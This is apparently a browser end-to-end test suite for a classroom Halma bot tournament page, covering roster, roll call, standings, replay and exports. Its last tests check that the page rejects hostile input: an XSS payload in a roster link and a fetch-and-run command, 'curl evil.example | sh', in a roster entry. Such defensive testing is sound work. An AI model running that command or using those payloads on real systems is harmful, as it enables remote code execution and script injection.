// The classroom tournament page end to end: a roster of two house bots, the Python starter and a dead
// address; the roll call finds the dead one and says why; the tournament runs without it, survives a
// reload, and ends with standings, a crosstable, a replay and its exports.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { serveDist, launch, openApp, root, gatedContext, storedGames } from './harness.mjs';
import { closedPort } from './hostile.mjs';

let server, browser, child;

/** Starts the Python starter AI on a free port and waits until it answers. */
async function startPython() {
  const port = await closedPort();
  const url = `http://127.0.0.1:${port}/`;
  child = spawn('python3', ['ai/python/halma_ai.py', '--port', String(port)], { cwd: root, stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  child.stderr.on('data', (d) => { stderr += d; });
  for (let i = 0; i < 100; i++) {
    try {
      const r = await fetch(url, { method: 'OPTIONS' });
      if (r.status < 500) return url;
    } catch { /* not up yet */ }
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`the Python starter did not start: ${stderr}`);
}

before(async () => {
  server = await serveDist('/');
  browser = await launch();
});
after(async () => {
  child?.kill();
  await browser?.close();
  server?.close();
});

const text = (page, id) => page.textContent(`[data-testid=${id}]`);

async function saved(page, id) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click(`[data-testid=${id}]`)]);
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'tournament-')), download.suggestedFilename());
  await download.saveAs(file);
  return [download.suggestedFilename(), fs.readFileSync(file, 'utf8')];
}

test('a classroom tournament: roster, roll call, run, reload, standings, replay and exports', async () => {
  const py = await startPython();
  const dead = `http://127.0.0.1:${await closedPort()}/`;
  const { page, errors } = await openApp(browser, `${server.url}#/tournament`, undefined, '[data-testid=entry-name]');
  assert.equal(await page.getAttribute('nav a[data-page=tournament]', 'aria-current'), 'page');
  let workersStarted = 0;
  page.on('worker', () => { workersStarted += 1; });

  // Roster: one entry added by hand, three pasted; a hostile name stays text.
  await page.fill('[data-testid=entry-name]', 'Greedy <b>bot</b>');
  await page.fill('[data-testid=entry-player]', 'builtin:greedy');
  await page.click('[data-testid=add-entry]');
  await page.fill('[data-testid=paste]', `Search builtin:search\nPython ${py}\nDead ${dead}\n`);
  await page.click('[data-testid=paste-add]');
  assert.equal(await page.locator('[data-testid=roster] li').count(), 4);
  assert.equal(await page.locator('[data-testid=roster] b').count(), 0);
  // The roster travels in the link.
  assert.match(decodeURIComponent(page.url()), /#\/tournament\?roster=.*Python/);

  // Settings: the small board, short ticks, short games.
  await page.selectOption('[data-testid=preset]', 'mini');
  await page.fill('[data-testid=tick]', '150');
  await page.fill('[data-testid=turns]', '24');
  await page.fill('[data-testid=concurrency]', '2');

  // Roll call: the dead address is red with the reason and the fix; the rest are green.
  await page.click('[data-testid=roll-call-run]');
  await page.waitForFunction(() => ![...document.querySelectorAll('[data-testid=roll-entry]')]
    .some((e) => /asking/.test(e.textContent)), null, { timeout: 10_000 });
  const entries = page.locator('[data-testid=roll-entry]');
  assert.equal(await entries.count(), 4);
  for (const i of [0, 1, 2]) {
    assert.match(await entries.nth(i).getAttribute('class'), /green/, await entries.nth(i).textContent());
  }
  assert.match(await entries.nth(3).getAttribute('class'), /red/);
  const said = await entries.nth(3).textContent();
  assert.match(said, /browser cannot tell these two apart/);
  assert.match(said, /Access-Control-Allow-Origin: \*/);
  // The red web AI links to the endpoint doctor, with its address and the tick.
  const doctor = await entries.nth(3).locator('[data-testid=roll-doctor]').getAttribute('href');
  assert.equal(doctor, `#/doctor?url=${encodeURIComponent(dead)}&tick=150`);
  assert.equal(await entries.nth(0).locator('[data-testid=roll-doctor]').count(), 0);

  // Start without the red entry: 3 entries, a round robin of 3 games.
  await page.click('[data-testid=start-green]');
  await page.waitForSelector('[data-testid=t-status]');
  await page.waitForFunction(() => /^[1-9]/.test(document.querySelector('[data-testid=t-status]').textContent
    .replace(/^Round \d+ of \d+: /, '')), null, { timeout: 20_000 });
  assert.match(await text(page, 't-status'), /of 3 games finished/);

  // The standings and the crosstable follow the games as they finish.
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=standings-row] td:nth-child(3)')]
    .some((td) => td.textContent !== '0'), null, { timeout: 5_000 });
  await page.waitForFunction(() => /[01½]/.test(document.querySelector('[data-testid=crosstable] tbody').textContent),
    null, { timeout: 5_000 });

  // The house bots think in Web Workers, not on the page's thread.
  assert.ok(workersStarted > 0, 'the built-in AIs run in workers');

  // Pause holds every game on its turn; Resume goes on.
  await page.click('[data-testid=pause]');
  assert.equal((await text(page, 'pause')).trim(), 'Resume');
  await page.waitForTimeout(400);
  const turns = () => page.locator('[data-testid=live-game] .t-turn').allTextContents();
  const held = await turns();
  await page.waitForTimeout(500);
  assert.deepEqual(await turns(), held, 'no game moves while paused');
  await page.click('[data-testid=pause]');
  assert.equal((await text(page, 'pause')).trim(), 'Pause');

  // A reload mid-tournament resumes it from the browser's storage.
  await page.reload();
  await page.waitForSelector('[data-testid=t-status]');
  await page.waitForFunction(() => /is over/.test(document.querySelector('[data-testid=t-status]').textContent),
    null, { timeout: 30_000 });
  assert.match(await text(page, 't-status'), /3 of 3 games finished/);

  // Standings and crosstable.
  assert.equal(await page.locator('[data-testid=standings-row]').count(), 3);
  const standings = await text(page, 'standings');
  assert.match(standings, /Python/);
  assert.match(standings, /Greedy <b>bot<\/b>/);
  assert.doesNotMatch(standings, /Dead/);
  assert.match(standings, /\d+\.\d ± \d+\.\d/, 'every rating with its uncertainty');
  assert.match(await text(page, 'crosstable'), /×/);
  assert.equal(await page.locator('[data-testid=game-line]').count(), 3);
  // Newest first, each numbered by when it finished (the list is keyed by game: a game's end adds a line).
  assert.deepEqual(await page.locator('[data-testid=game-line]').evaluateAll((lines) => lines.map((l) => l.value)),
    [3, 2, 1]);

  // Replay a finished game, step it, and download its record.
  await page.locator('[data-testid=replay]').first().click();
  await page.waitForSelector('[data-testid=replay-view] [data-testid=board] .cell');
  assert.equal(await text(page, 'replay-at'), '0');
  await page.click('[data-testid=replay-step]');
  assert.equal(await text(page, 'replay-at'), '1');
  // "Continue in the arena" opens the tick shown in the arena's position editor, ready to play on.
  const [arena] = await Promise.all([page.waitForEvent('popup'), page.click('[data-testid=continue-in-arena]')]);
  await arena.waitForFunction(() => /^a legal position/.test(document.querySelector('[data-testid=edit-check]')?.textContent ?? ''));
  assert.equal(await arena.locator('[data-testid=board] .cell.piece').count(),
    await page.locator('[data-testid=replay-view] [data-testid=board] .cell.piece').count());
  assert.equal(await arena.isEnabled('[data-testid=play-from-here]'), true);
  await arena.close();
  const [recordName, record] = await saved(page, 'download-record');
  assert.match(recordName, /^tournament-game-\d+\.jsonl$/);
  const lines = record.trim().split('\n').map((l) => JSON.parse(l));
  assert.equal(lines[0].type, 'header');
  assert.equal(lines[0].format, 'gridarena-halma-record');
  assert.equal(lines.at(-1).type, 'result');

  // Exports: the standings CSV and the tournament bundle.
  const [, csv] = await saved(page, 'export-csv');
  const rows = csv.trim().split(/\r\n/);
  assert.match(rows[0], /^rank,name,played,wins,draws,losses,points,.*rating,rating_low,rating_high,tie_group/);
  assert.equal(rows.length, 4);
  const [, bundle] = await saved(page, 'export-bundle');
  const parsed = JSON.parse(bundle);
  assert.equal(parsed.games.length, 3);
  assert.equal(parsed.roster.entries.length, 3);

  assert.deepEqual(errors.filter((e) => !/Failed to load resource|CORS|ERR_|net::/.test(e)), []);
  await page.close();
});

/** The tournament page's clock, split off its first download. */
const CLOCK = /\/split\/gridarena-tournament\/split_clock\.wasm$/;

/** Opens the tournament page and sets up two greedy entries on the mini board, 100 ms ticks, `turns` turns. */
async function twoGreedyOnMini(page, turns) {
  await page.goto(`${server.url}#/tournament`);
  await page.waitForSelector('[data-testid=entry-name]');
  await page.fill('[data-testid=paste]', 'One builtin:greedy\nTwo builtin:greedy\n');
  await page.click('[data-testid=paste-add]');
  await page.selectOption('[data-testid=preset]', 'mini');
  await page.fill('[data-testid=tick]', '100');
  await page.fill('[data-testid=turns]', String(turns));
}

test('the set-up view comes first; the clock and the running view come after it, and a clock that does not load is said and tried again', async () => {
  const { context, fetched, gate } = await gatedContext(browser, CLOCK);
  const page = await context.newPage();
  await twoGreedyOnMini(page, 6);
  // The clock's module is refused (the page tried it once idle): Start says so and changes nothing.
  await page.click('[data-testid=start]');
  await page.waitForFunction(() => /Error, the tournament's clock did not load/
    .test(document.querySelector('[data-testid=t-notice]').textContent));
  assert.equal(await page.locator('[data-testid=t-status]').count(), 0);
  assert.equal(await page.locator('[data-testid=roster] li').count(), 2);
  // Once it can load, the same click starts the tournament, and its view loads beside it.
  gate.open();
  await page.click('[data-testid=start]');
  await page.waitForFunction(() => /is over/.test(document.querySelector('[data-testid=t-status]')?.textContent ?? ''),
    null, { timeout: 30_000 });
  for (const part of ['split_clock', 'split_running']) {
    assert.ok(fetched.includes(`/split/gridarena-tournament/${part}.wasm`), fetched.join(' '));
  }
  assert.equal(fetched.filter((p) => p.endsWith('/gridarena-tournament_bg.wasm')).length, 1, fetched.join(' '));
  assert.ok(!fetched.some((p) => /gridarena-compare/.test(p)), 'the Compare page is a module of its own');
  await context.close();
});

test('Start waits while the saved tournament is being resumed, so a click cannot replace it', async () => {
  const { context, gate } = await gatedContext(browser, CLOCK, 'pass');
  const page = await context.newPage();
  await twoGreedyOnMini(page, 2000);
  await page.click('[data-testid=start]');
  await page.waitForSelector('[data-testid=t-status]');
  await page.waitForFunction(storedGames, 0);
  // Reloaded with the clock's module held: the set-up view shows while the saved tournament waits for it.
  gate.mode = 'hold';
  await page.reload();
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=roster] li').length === 2);
  await page.waitForFunction(() => document.querySelector('[data-testid=start]')?.disabled, null, { timeout: 5_000 });
  assert.ok(await page.isDisabled('[data-testid=start-green]'));
  gate.open();
  await page.waitForSelector('[data-testid=t-status]');
  assert.match(await page.textContent('[data-testid=t-status]'), /^Round \d+ of \d+: 0 of \d+ games finished/);
  assert.equal(await page.textContent('[data-testid=t-notice]'), '');
  await context.close();
});

test('hostile input: a broken roster link and a corrupt saved tournament are explained, not run', async () => {
  const { page, errors } = await openApp(browser, `${server.url}#/tournament?roster=%7B%22entries%22%3A%5B%7B%22name%22%3A%22%3Cimg%20src%3Dx%20onerror%3Dwindow.pwned%3D1%3E%22%2C%22player%22%3A%22javascript%3Aalert(1)%22%7D%5D%7D`,
    undefined, '[data-testid=entry-name]');
  const notice = (re) => page.waitForFunction((src) =>
    new RegExp(src).test(document.querySelector('[data-testid=t-notice]')?.textContent ?? ''), re.source);
  await notice(/The roster in the link was not loaded/);
  assert.match(await text(page, 't-notice'), /The roster in the link was not loaded: .*Entry 1/);
  assert.equal(await page.locator('[data-testid=roster] li').count(), 0);
  await page.evaluate(() => localStorage.setItem('gridarena.tournament.bundle', '{"format":"gridarena-tournament","version":1,"games":[{"<script>":1}]}'));
  await page.goto(`${server.url}#/tournament`);
  await page.reload();
  await page.waitForSelector('[data-testid=entry-name]');
  await notice(/The saved tournament could not be resumed/);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(await page.locator('[data-testid=t-notice] script, [data-testid=t-notice] img').count(), 0);
  assert.deepEqual(errors, []);
  await page.close();
});

test('a roster link brings no commands; a pasted program entry is marked, kept over a reload and named in the export', async () => {
  const roster = { entries: [
    { name: 'Mallory', program: { command: 'curl evil.example | sh', dir: '.', format: 'course' } },
    { name: 'Greedy', player: 'builtin:greedy' },
  ] };
  const { page, errors } = await openApp(browser,
    `${server.url}#/tournament?roster=${encodeURIComponent(JSON.stringify(roster))}`, undefined, '[data-testid=entry-name]');
  // The link is read once the stored roster is (IndexedDB, after the form is drawn).
  await page.waitForFunction(() => /left out/.test(document.querySelector('[data-testid=t-notice]').textContent));
  assert.match(await text(page, 't-notice'), /which a link may not bring, so it was left out: Mallory/);
  assert.equal(await page.locator('[data-testid=roster] li').count(), 1);
  assert.doesNotMatch(await text(page, 'roster'), /evil/);
  // The teacher's own paste is taken, marked, and kept out of the page's link.
  await page.fill('[data-testid=paste]', 'Ada course:agents/ada:python3 homework.py');
  await page.click('[data-testid=paste-add]');
  assert.match(await text(page, 't-notice'), /Marked as programs .*: Ada\./);
  assert.equal(await page.locator('[data-testid=roster] [data-testid=program-mark]').count(), 1);
  assert.doesNotMatch(decodeURIComponent(page.url()), /homework/);
  await page.reload();
  await page.waitForSelector('[data-testid=entry-name]');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=roster] li').length > 0);
  assert.equal(await page.locator('[data-testid=roster] li').count(), 2, 'the page\'s own link keeps the stored program');
  const download = page.waitForEvent('download');
  await page.click('[data-testid=export-roster]');
  await download;
  assert.match(await text(page, 't-notice'), /roster\.json includes the program entries/);
  assert.deepEqual(errors, []);
  await page.close();
});
